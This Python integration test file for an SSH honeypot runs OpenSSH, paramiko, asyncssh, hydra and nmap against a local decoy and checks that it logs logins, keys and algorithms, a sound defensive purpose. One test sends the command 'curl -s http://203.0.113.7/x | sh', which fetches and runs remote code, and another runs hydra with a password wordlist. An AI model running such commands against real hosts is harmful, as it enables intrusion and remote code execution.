"""The SSH lure against the clients and scanners attackers use: OpenSSH, asyncssh, paramiko, hydra,
nmap."""

from __future__ import annotations

import asyncio
import re
import subprocess
from collections.abc import Callable
from importlib import resources
from pathlib import Path
from typing import Any

import asyncssh
import paramiko
import paramiko.kex_gex
import pytest
from tests.conftest import DecoyProcess, free_port, require_tool
from tests.integration.paramiko_gex import note_groups

from honeypods.ssh import persona as ssh_persona

pytestmark = pytest.mark.integration

SSH_OPTS = [
    "-o", "StrictHostKeyChecking=no",
    "-o", "UserKnownHostsFile=/dev/null",
    "-o", "ConnectTimeout=20",
    "-o", "NumberOfPasswordPrompts=1",
]  # fmt: skip
TELLS = (b"asyncssh", b"python")


def _start(decoy_process: Callable[..., DecoyProcess], **env: str) -> tuple[DecoyProcess, int]:
    port = free_port()
    settings = {
        "HONEYPODS_SSH_PORT": str(port),
        # The 8.4p1 persona unless a test names another: the runner's seed would draw one.
        "HONEYPODS_SSH_PERSONA": ssh_persona.DEFAULT.name,
        "HONEYPODS_SSH_PASSWORD_FAIL_DELAY": "0.05",
        **{f"HONEYPODS_SSH_{k.upper()}": v for k, v in env.items()},
    }
    return decoy_process(["ssh"], settings), port


def _logins(proc: DecoyProcess, count: int) -> list[dict[str, Any]]:
    proc.wait_for(lambda docs: sum(d["event"]["action"] == "ssh.login" for d in docs) >= count)
    return proc.of("ssh.login")


def _host_key_dir(tmp_path: Path) -> Path:
    keygen = require_tool("ssh-keygen")
    keys = tmp_path / "hostkeys"
    keys.mkdir()
    for name, kind, bits in (
        ("ssh_host_rsa_key", "rsa", "3072"),
        ("ssh_host_ecdsa_key", "ecdsa", "256"),
        ("ssh_host_ed25519_key", "ed25519", "256"),
    ):
        cmd = [keygen, "-q", "-t", kind, "-b", bits, "-N", "", "-f", str(keys / name)]
        subprocess.run(cmd, check=True, timeout=60)
    return keys


def test_openssh_client_passwords_are_each_one_event(decoy_process: Any) -> None:
    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
    proc, port = _start(decoy_process)
    tries = [("root", "toor"), ("admin", "admin123"), ("ubuntu", "p@ss word")]
    for user, password in tries:
        result = subprocess.run(
            [sshpass, "-p", password, ssh, "-vvv", *SSH_OPTS, "-o", "PubkeyAuthentication=no",
             "-p", str(port), f"{user}@127.0.0.1", "id"],
            capture_output=True, timeout=60, check=False,
        )  # fmt: skip
        assert result.returncode != 0
        assert b"Authentications that can continue: publickey,password" in result.stderr
        assert b"remote software version OpenSSH_8.4p1 Debian-5+deb11u3" in result.stderr
        lowered = result.stderr.lower()
        assert not any(tell in lowered for tell in TELLS)
    logins = _logins(proc, len(tries))
    assert len(logins) == len(tries)
    assert [(e["user"]["name"], e["ssh"]["password"]) for e in logins] == tries
    for event in logins:
        assert event["event"]["outcome"] == "failure"
        assert event["ssh"]["auth_method"] == "password"
        assert event["ssh"]["client_version"].startswith("SSH-2.0-OpenSSH_")
        assert event["rule"]["name"] == "honeypod.network.ssh"
    kex = proc.of("ssh.kex")
    assert len(kex) == len(tries)
    assert all(len(e["ssh"]["hassh"]) == 32 for e in kex)


def test_public_keys_record_their_fingerprint_and_max_auth_tries(
    decoy_process: Any, tmp_path: Path
) -> None:
    ssh, keygen = require_tool("ssh"), require_tool("ssh-keygen")
    proc, port = _start(decoy_process)
    identities: list[str] = []
    fingerprints = []
    for i in range(7):
        key = tmp_path / f"id_{i}"
        subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
        identities += ["-i", str(key)]
        out = subprocess.run(
            [keygen, "-l", "-E", "sha256", "-f", f"{key}.pub"],
            capture_output=True, text=True, check=True,
        )  # fmt: skip
        fingerprints.append(out.stdout.split()[1])
    result = subprocess.run(
        [ssh, *SSH_OPTS, "-o", "BatchMode=yes", "-o", "IdentitiesOnly=yes",
         "-o", "PasswordAuthentication=no", *identities, "-p", str(port), "git@127.0.0.1", "id"],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    assert b"Too many authentication failures" in result.stderr
    logins = _logins(proc, 6)
    # MaxAuthTries 6: the sixth refused key ends the connection; the seventh is never offered.
    assert [e["ssh"]["key_fingerprint"] for e in logins] == fingerprints[:6]
    assert {e["ssh"]["key_type"] for e in logins} == {"ssh-ed25519"}
    proc.wait_for(lambda docs: any(d["event"]["action"] == "session.closed" for d in docs))
    disconnects = proc.of("ssh.disconnect")
    assert disconnects[0]["ssh"]["disconnect_reason"] == "Too many authentication failures"


def test_asyncssh_client_attempts_are_events(decoy_process: Any) -> None:
    proc, port = _start(decoy_process)

    async def attempt(user: str, password: str) -> None:
        with pytest.raises(asyncssh.PermissionDenied):
            await asyncssh.connect(
                "127.0.0.1", port, username=user, password=password,
                known_hosts=None, client_keys=None, agent_path=None, connect_timeout=30,
            )  # fmt: skip

    async def main() -> None:
        for n in range(3):
            await attempt(f"user{n}", f"pw{n}")

    asyncio.run(main())
    logins = _logins(proc, 3)
    assert len(logins) == 3
    assert [e["ssh"]["password"] for e in logins] == ["pw0", "pw1", "pw2"]
    assert all(e["ssh"]["client_version"].startswith("SSH-2.0-AsyncSSH_") for e in logins)


def test_hydra_attempts_are_each_one_event(decoy_process: Any, tmp_path: Path) -> None:
    hydra = require_tool("hydra")
    proc, port = _start(decoy_process)
    passwords = ["123456", "password", "letmein", "qwerty"]
    wordlist = tmp_path / "words.txt"
    wordlist.write_text("\n".join(passwords) + "\n")
    result = subprocess.run(
        [hydra, "-l", "root", "-P", str(wordlist), "-t", "2", "-W", "1", "-I", "-s", str(port),
         "127.0.0.1", "ssh"],
        capture_output=True, timeout=180, check=False,
    )  # fmt: skip
    assert b"0 valid password" in result.stdout, result.stdout
    logins = _logins(proc, len(passwords))
    assert sorted(e["ssh"]["password"] for e in logins) == sorted(passwords)
    assert {e["user"]["name"] for e in logins} == {"root"}


NAMES = list(ssh_persona.PERSONAS)


@pytest.mark.parametrize("name", NAMES)
def test_nmap_names_the_persona(decoy_process: Any, name: str) -> None:
    nmap = require_tool("nmap")
    proc, port = _start(decoy_process, persona=name)
    # nmap prints "OpenSSH_8.4p1 Debian-5+deb11u3" as "OpenSSH 8.4p1 Debian 5+deb11u3".
    product, _, distro = (
        ssh_persona.PERSONAS[name].server_version.removeprefix("SSH-2.0-").partition(" ")
    )
    shown = product.replace("_", " ") + " " + distro.replace("-", " ", 1)
    out = subprocess.run(
        [nmap, "-Pn", "-n", "-sV", "-p", str(port), "127.0.0.1"],
        capture_output=True, text=True, timeout=240, check=True,
    ).stdout  # fmt: skip
    assert re.search(r"open\s+ssh\s+" + re.escape(shown), out), out
    assert "protocol 2.0" in out
    proc.wait_for(lambda docs: any(d["event"]["action"] == "session.connect" for d in docs))


@pytest.mark.parametrize("name", NAMES)
def test_nmap_enum_algos_lists_exactly_the_persona(decoy_process: Any, name: str) -> None:
    nmap = require_tool("nmap")
    P = ssh_persona.PERSONAS[name]
    _proc, port = _start(decoy_process, persona=name)
    out = subprocess.run(
        [nmap, "-Pn", "-n", "-sV", "-p", str(port), "--script", "ssh2-enum-algos", "127.0.0.1"],
        capture_output=True, text=True, timeout=240, check=True,
    ).stdout  # fmt: skip
    sections: dict[str, list[str]] = {}
    current = ""
    for line in out.splitlines():
        head = re.match(r"\|\s+(\w+): \(\d+\)", line)
        if head:
            current = head[1]
            sections[current] = []
        elif current and re.match(r"\|[_ ]\s{5,}\S", line):
            sections[current].append(line[2:].strip())
    assert sections["kex_algorithms"] == [*P.kex_algs, *P.kex_markers]
    assert sections["server_host_key_algorithms"] == list(P.host_key_algs)
    assert sections["encryption_algorithms"] == list(P.ciphers)
    assert sections["mac_algorithms"] == list(P.macs)
    assert sections["compression_algorithms"] == list(P.compression)


def test_host_keys_survive_a_restart(decoy_process: Any, tmp_path: Path) -> None:
    keyscan = require_tool("ssh-keyscan")
    keys = _host_key_dir(tmp_path)
    port = free_port()
    env = {"HONEYPODS_SSH_PORT": str(port), "HONEYPODS_SSH_HOST_KEY_DIR": str(keys)}

    def scan() -> set[str]:
        out = subprocess.run(
            [keyscan, "-p", str(port), "-t", "rsa,ecdsa,ed25519", "127.0.0.1"],
            capture_output=True, text=True, timeout=60, check=True,
        ).stdout  # fmt: skip
        return {line for line in out.splitlines() if line and not line.startswith("#")}

    first = decoy_process(["ssh"], env)
    before = scan()
    assert not first.of("honeypods.warning")
    first.stop()
    decoy_process(["ssh"], env)
    after = scan()
    assert len(before) == 3
    assert before == after
    expected = {
        " ".join(Path(keys, f"{name}.pub").read_text().split()[:2])
        for name, _alg, _bits in ssh_persona.HOST_KEYS
    }
    assert {line.split(" ", 1)[1] for line in after} == expected


@pytest.mark.parametrize("name", NAMES)
def test_every_persona_algorithm_negotiates_with_openssh(decoy_process: Any, name: str) -> None:
    # sntrup761x25519 included: OpenSSH's client finishes it with ssh/sntrup.py's encapsulation.
    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
    P = ssh_persona.PERSONAS[name]
    proc, port = _start(decoy_process, persona=name)
    choices = (
        [("ssh.kex_algorithm", ["-o", f"KexAlgorithms={a}"], a) for a in P.kex_algs]
        + [("ssh.host_key_algorithm", ["-o", f"HostKeyAlgorithms={a}"], a)
           for a in P.host_key_algs]
        + [("ssh.cipher", ["-c", a], a) for a in P.ciphers]
        + [("ssh.mac", ["-c", "aes128-ctr", "-m", a], a) for a in P.macs]
    )  # fmt: skip
    for _field, options, _alg in choices:
        result = subprocess.run(
            [sshpass, "-p", "x", ssh, *SSH_OPTS, "-o", "PubkeyAuthentication=no", *options,
             "-p", str(port), "probe@127.0.0.1", "true"],
            capture_output=True, timeout=60, check=False,
        )  # fmt: skip
        assert b"Permission denied" in result.stderr, (options, result.stderr[-300:])
    _logins(proc, len(choices))
    kex = proc.of("ssh.kex")
    for (field, _options, alg), event in zip(choices, kex, strict=True):
        assert event["ssh"][field.split(".", 1)[1]] == alg


def test_accepted_login_through_openssh_runs_nothing(decoy_process: Any) -> None:
    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
    proc, port = _start(decoy_process, accept="deploy:deploy")
    base = [sshpass, "-p", "deploy", ssh, *SSH_OPTS, "-o", "PubkeyAuthentication=no",
            "-p", str(port), "deploy@127.0.0.1"]  # fmt: skip
    result = subprocess.run(
        [*base, "curl -s http://203.0.113.7/x | sh"], capture_output=True, timeout=60, check=False
    )
    assert result.returncode == 127
    assert result.stderr.endswith(b"sh: 1: curl: not found\n")
    shell = subprocess.run(
        [*base, "-tt"], input=b"id\nexit\n", capture_output=True, timeout=60, check=False
    )
    assert b"sh: 1: id: not found" in shell.stdout
    proc.wait_for(lambda docs: sum(d["event"]["action"] == "ssh.request" for d in docs) >= 4)
    requests = [(e["ssh"]["request"], e["ssh"].get("command")) for e in proc.of("ssh.request")]
    assert ("exec", "curl -s http://203.0.113.7/x | sh") in requests
    assert ("shell", None) in requests
    assert ("input", "id") in requests
    assert [e["event"]["outcome"] for e in proc.of("ssh.login")] == ["success", "success"]


def test_keyboard_interactive_through_openssh(decoy_process: Any) -> None:
    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
    proc, port = _start(decoy_process, keyboard_interactive="true")
    result = subprocess.run(
        [sshpass, "-p", "hunter2", ssh, "-v", *SSH_OPTS, "-o", "PubkeyAuthentication=no",
         "-o", "PreferredAuthentications=keyboard-interactive", "-p", str(port),
         "pi@127.0.0.1", "true"],
        capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    assert (
        b"Authentications that can continue: publickey,password,keyboard-interactive"
        in result.stderr
    )
    (login,) = _logins(proc, 1)
    assert login["ssh"]["auth_method"] == "keyboard-interactive"
    assert login["ssh"]["password"] == "hunter2"


def _paramiko_transport(port: int, **kwargs: Any) -> paramiko.Transport:
    transport = paramiko.Transport(("127.0.0.1", port), **kwargs)
    transport.start_client(timeout=30)
    return transport


def test_paramiko_gets_every_try_up_to_max_auth_tries(decoy_process: Any) -> None:
    # paramiko sends a new ssh-userauth service request before each password, as sshd allows.
    proc, port = _start(decoy_process)
    passwords = [f"guess{n}" for n in range(6)]
    transport = _paramiko_transport(port)
    try:
        for password in passwords[:5]:
            with pytest.raises(paramiko.AuthenticationException):
                transport.auth_password("admin", password, fallback=False)
        # The sixth failure is sshd's DISCONNECT, not a FAILURE.
        with pytest.raises(paramiko.SSHException):
            transport.auth_password("admin", passwords[5], fallback=False)
    finally:
        transport.close()
    logins = _logins(proc, 6)
    assert [e["ssh"]["password"] for e in logins] == passwords
    assert [e["ssh"]["attempt"] for e in logins] == [1, 2, 3, 4, 5, 6]
    assert all(e["ssh"]["client_version"].startswith("SSH-2.0-paramiko_") for e in logins)
    proc.wait_for(lambda docs: any(d["event"]["action"] == "ssh.disconnect" for d in docs))
    disconnect = proc.of("ssh.disconnect")[0]["ssh"]
    assert disconnect["disconnect_reason"] == "Too many authentication failures"


GEX = "diffie-hellman-group-exchange-sha256"


@pytest.mark.parametrize(
    ("bits", "size"),
    [
        ((1024, 1024, 8192), 2048),
        ((2048, 2048, 8192), 2048),
        ((2048, 3000, 8192), 3072),
        ((2048, 4096, 8192), 4096),
        ((2048, 5000, 8192), 6144),
        ((2048, 7000, 7000), 6144),
        ((2048, 8192, 8192), 8192),
    ],
)
def test_paramiko_group_exchange_gets_sshds_group(
    decoy_process: Any, monkeypatch: pytest.MonkeyPatch, bits: tuple[int, int, int], size: int
) -> None:
    proc, port = _start(decoy_process)
    gex = paramiko.kex_gex.KexGexSHA256
    for name, value in zip(("min_bits", "preferred_bits", "max_bits"), bits, strict=True):
        monkeypatch.setattr(gex, name, value)
    groups = note_groups(monkeypatch)
    others = [k for k in paramiko.Transport._preferred_kex if k != GEX]
    transport = _paramiko_transport(port, disabled_algorithms={"kex": others})
    try:
        with pytest.raises(paramiko.AuthenticationException):
            transport.auth_password("root", "x", fallback=False)
    finally:
        transport.close()
    (p,) = groups
    assert p.bit_length() == size
    shipped = resources.files("honeypods.ssh").joinpath("moduli").read_text()
    assert f"{p:X}" in shipped
    proc.wait_for(lambda docs: any(d["event"]["action"] == "ssh.kex" for d in docs))
    assert proc.of("ssh.kex")[0]["ssh"]["kex_algorithm"] == GEX


def test_group_exchange_below_2048_bits_is_refused(decoy_process: Any, monkeypatch: Any) -> None:
    proc, port = _start(decoy_process)
    for name in ("min_bits", "preferred_bits", "max_bits"):
        monkeypatch.setattr(paramiko.kex_gex.KexGexSHA256, name, 1024)
    others = [k for k in paramiko.Transport._preferred_kex if k != GEX]
    # sshd closes without a DISCONNECT: paramiko reads the end of the stream.
    with pytest.raises(EOFError):
        _paramiko_transport(port, disabled_algorithms={"kex": others}).close()
    proc.wait_for(lambda docs: any(d["event"]["action"] == "ssh.disconnect" for d in docs))
    assert proc.of("ssh.disconnect")[0]["ssh"]["disconnect_reason"] == "DH GEX group out of range"


def test_openssh_group_exchange_requests_and_gets_a_large_group(decoy_process: Any) -> None:
    ssh, sshpass = require_tool("ssh"), require_tool("sshpass")
    proc, port = _start(decoy_process)
    for cipher, wanted in (("aes128-ctr", 3072), ("aes256-ctr", 8192)):
        result = subprocess.run(
            [sshpass, "-p", "x", ssh, "-vvv", *SSH_OPTS, "-o", "PubkeyAuthentication=no",
             "-o", f"KexAlgorithms={GEX}", "-c", cipher, "-m", "umac-64@openssh.com",
             "-p", str(port), "probe@127.0.0.1", "true"],
            capture_output=True, timeout=120, check=False,
        )  # fmt: skip
        # The client checks the group against its request (min 2048) before going on.
        assert f"SSH2_MSG_KEX_DH_GEX_REQUEST(2048<{wanted}<8192) sent".encode() in result.stderr
        assert b"SSH2_MSG_KEX_DH_GEX_GROUP received" in result.stderr
        assert b"Permission denied" in result.stderr, result.stderr[-500:]
    _logins(proc, 2)
